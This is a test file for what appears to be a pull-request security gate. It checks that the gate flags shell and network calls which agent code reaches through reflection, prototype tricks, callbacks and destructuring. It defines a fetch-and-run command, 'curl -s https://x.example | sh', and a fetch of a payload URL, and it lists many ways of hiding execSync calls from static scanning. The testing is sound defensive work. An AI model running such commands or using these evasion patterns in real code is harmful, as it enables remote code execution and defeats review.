import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// A member reached through a property descriptor held by a name, or through an object whose prototype is the module,
// or loaded through the module builtin's `Module.prototype.require`, or through every descriptor at once, a module
// copied from its entries or by a spread, or what a `map` callback returns; a module rebuilt from a Map of its entries or
// from pairs, what `flatMap`/`reduce` callbacks return, a mapped array held by a name, a Map iterated by name, an array in
// a slot, a callback named, `pop`/`shift`/`concat`, an awaited promise of the module, a function written in place given it,
// an array destructured by index, a callback's return through a subscript, a comma, `.bind` or a destructured parameter,
// `flat()`, `at?.()`, an object spread of an element, `globalThis[k]` of a constant "fetch", an array held by a name
// destructured: each ran under Node 20 and passed the gate before.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("a module's members reached by reflection fail the gate", () => {
  it("scan/shell-command: a held descriptor's `value`, a destructured one, `{ __proto__: cp }`, `o.__proto__ = cp`, `Object.setPrototypeOf(o, cp)`, `Module.prototype.require.call(module, m)` and an entry destructured in a callback fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/descriptor.js"), `const cp = require("child_process");\nconst d = Object.getOwnPropertyDescriptor(cp, "execSync");\nd.value("${CMD}");\nconst { value: run } = Reflect.getOwnPropertyDescriptor(cp, "exec");\nrun("${CMD}");\n`);
      writeFileSync(join(dir, "agent/prototype.js"), `const cp = require("child_process");\nconst o = { __proto__: cp };\no.execSync("${CMD}");\nconst p = {};\np.__proto__ = cp;\np.exec("${CMD}");\nconst q = {};\nObject.setPrototypeOf(q, cp);\nq.execSync("${CMD}");\n`);
      writeFileSync(join(dir, "agent/entries.js"), `const cp = require("child_process");\nObject.entries(cp).forEach(([name, run]) => { if (name === "execSync") run("${CMD}"); });\n`);
      writeFileSync(join(dir, "agent/modules.js"), `const Module = require("module");\nModule.prototype.require.call(module, "child_process").execSync("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/descriptor.js 3 1", "scan/shell-command agent/descriptor.js 5 1", "scan/shell-command agent/entries.js 2 72", "scan/shell-command agent/modules.js 2 1", "scan/shell-command agent/prototype.js 3 1", "scan/shell-command agent/prototype.js 6 1", "scan/shell-command agent/prototype.js 9 1"]);
  });

  it("scan/shell-command: every descriptor at once (`Object.getOwnPropertyDescriptors(cp).execSync.value`, held by a name, destructured nested) fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/descriptors.js"), `const cp = require("child_process");\nObject.getOwnPropertyDescriptors(cp).execSync.value("${CMD}");\nconst ds = Object.getOwnPropertyDescriptors(cp);\nds.execSync.value("${CMD}");\nconst { execSync: { value: run } } = Object.getOwnPropertyDescriptors(cp);\nrun("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/descriptors.js 2 1", "scan/shell-command agent/descriptors.js 4 1", "scan/shell-command agent/descriptors.js 6 1"]);
  });

  it("scan/shell-command: a module copied (`Object.fromEntries(Object.entries(cp))`, held by a name; `{ ...cp }.execSync`) fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/copied.js"), `const cp = require("child_process");\nObject.fromEntries(Object.entries(cp)).execSync("${CMD}");\nconst m = Object.fromEntries(Object.entries(cp));\nm.execSync("${CMD}");\nconst r = { ...cp }.execSync("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/copied.js 2 1", "scan/shell-command agent/copied.js 4 1", "scan/shell-command agent/copied.js 5 11"]);
  });

  it("scan/shell-command: what a `map` callback returns (`[cp].map((m) => m.execSync)[0]`, `[cp.execSync].map((f) => f)[0]`) fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/mapped.js"), `const cp = require("child_process");\n[cp].map((m) => m.execSync)[0]("${CMD}");\n[cp.execSync].map((f) => f)[0]("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/mapped.js 2 1", "scan/shell-command agent/mapped.js 3 1"]);
  });

  it("scan/shell-command: a module rebuilt by `Object.fromEntries` of a Map of its entries, of its entries mapped to themselves, or of pairs written in place fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/rebuilt.js"), `const cp = require("child_process");\nObject.fromEntries(new Map(Object.entries(cp))).execSync("${CMD}");\nObject.fromEntries(Object.entries(cp).map(([k, v]) => [k, v])).execSync("${CMD}");\nObject.fromEntries([["run", cp.execSync]]).run("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/rebuilt.js 2 1", "scan/shell-command agent/rebuilt.js 3 1", "scan/shell-command agent/rebuilt.js 4 1"]);
  });

  it("scan/shell-command: what `flatMap` and `reduce` callbacks return (`[cp].flatMap((m) => [m.execSync])[0]`, `[cp].reduce((a, m) => m.execSync, null)`), and a callback named (`[cp].map(pick)[0]`, `[cp].forEach(go)`) fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/reduced.js"), `const cp = require("child_process");\n[cp].flatMap((m) => [m.execSync])[0]("${CMD}");\n[cp].reduce((a, m) => m.execSync, null)("${CMD}");\n`);
      writeFileSync(join(dir, "agent/named.js"), `const cp = require("child_process");\nconst pick = (m) => m.execSync;\n[cp].map(pick)[0]("${CMD}");\nfunction go(m) {\n  m.execSync("${CMD}");\n}\n[cp].forEach(go);\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/named.js 3 1", "scan/shell-command agent/named.js 5 3", "scan/shell-command agent/reduced.js 2 1", "scan/shell-command agent/reduced.js 3 1"]);
  });

  it("scan/shell-command: a mapped array destructured or held by a name (`const [run] = [cp].map(…)`, `fs[0](…)`) fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/held.js"), `const cp = require("child_process");\nconst [run] = [cp].map((m) => m.execSync);\nrun("${CMD}");\nconst fs = [cp].map((m) => m.execSync);\nfs[0]("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/held.js 3 1", "scan/shell-command agent/held.js 5 1"]);
  });

  it("scan/shell-command: a Map held by a name iterated (`for (const [k, f] of m)`, `[...m.values()][0]`) fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/iterated.js"), `const cp = require("child_process");\nconst m = new Map([["r", cp.execSync]]);\nfor (const [k, f] of m) f("${CMD}");\n[...m.values()][0]("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/iterated.js 3 25", "scan/shell-command agent/iterated.js 4 1"]);
  });

  it("scan/shell-command: an array literal held in a slot (`this.list = [cp.execSync]` … `this.list[0](…)`) fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/slotted.js"), `const cp = require("child_process");\nclass A {\n  constructor() { this.list = [cp.execSync]; }\n  go() { this.list[0]("${CMD}"); }\n}\nnew A().go();\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/slotted.js 4 10"]);
  });

  it("scan/shell-command: `pop`/`shift`/`concat` of an array, `await Promise.resolve(cp)`, a function written in place given the module, an array destructured by index, an entry's value mapped out fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/methods.js"), `const cp = require("child_process");\n[cp.execSync].pop()("${CMD}");\n[cp.execSync].concat([])[0]("${CMD}");\n[cp].map((m) => m.execSync).shift()("${CMD}");\n(async () => (await Promise.resolve(cp)).execSync("${CMD}"))();\n((m) => m.execSync)(cp)("${CMD}");\nconst { 0: f } = [cp.execSync];\nf("${CMD}");\nconst h = Object.entries(cp).filter(([k]) => k === "execSync").map(([, v]) => v)[0];\nh("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/methods.js 10 1", "scan/shell-command agent/methods.js 2 1", "scan/shell-command agent/methods.js 3 1", "scan/shell-command agent/methods.js 4 1", "scan/shell-command agent/methods.js 5 14", "scan/shell-command agent/methods.js 6 1", "scan/shell-command agent/methods.js 8 1"]);
  });

  it("scan/shell-command: a callback's return through a constant subscript, a comma, `.bind`, a destructured parameter; `Object.values` of an object literal; `flat()`; `at?.(0)`; an object spread of an element fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/returns.js"), `const cp = require("child_process");\nconst f1 = [cp].map((m) => m["execSync"])[0];\nf1("${CMD}");\nconst f2 = [cp].map((m) => (0, m.execSync))[0];\nf2("${CMD}");\nconst f3 = (({ execSync }) => execSync)(cp);\nf3("${CMD}");\nconst f4 = Object.values({ a: cp }).map((m) => m.execSync.bind(m))[0];\nf4("${CMD}");\n[cp].flat()[0].execSync("${CMD}");\n[cp.execSync].at?.(0)("${CMD}");\nconst { execSync: f5 } = { ...[cp][0] };\nf5("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/returns.js 10 1", "scan/shell-command agent/returns.js 11 1", "scan/shell-command agent/returns.js 13 1", "scan/shell-command agent/returns.js 3 1", "scan/shell-command agent/returns.js 5 1", "scan/shell-command agent/returns.js 7 1", "scan/shell-command agent/returns.js 9 1"]);
  });

  it("scan/network-call: a global object read by a string constant written whole (`const k = \"fetch\"; globalThis[k](…)`) fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/global.js"), `const k = "fetch";\nglobalThis[k]("https://x.example/payload");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/network-call agent/global.js 2 1"]);
  });

  it("scan/shell-command: an array held by a name destructured (`const mods = [cp, cp.execSync]; const [m, s] = mods`) fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/unpacked.js"), `const cp = require("child_process");\nconst mods = [cp, cp.execSync];\nconst [m, s] = mods;\nm.execSync("${CMD}");\ns("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/unpacked.js 4 1", "scan/shell-command agent/unpacked.js 5 1"]);
  });
});
